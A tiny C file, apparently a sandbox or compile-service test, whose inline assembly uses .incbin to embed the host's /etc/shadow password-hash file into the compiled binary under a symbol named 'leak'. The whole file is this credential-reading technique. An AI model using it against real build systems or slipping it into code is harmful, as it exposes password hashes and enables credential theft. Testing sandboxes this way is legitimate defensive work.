// the assembler reads a file of the host
asm(".section .rodata\n.global leak\nleak: .incbin \"/etc/shadow\"\n.text\n");
int main() {}
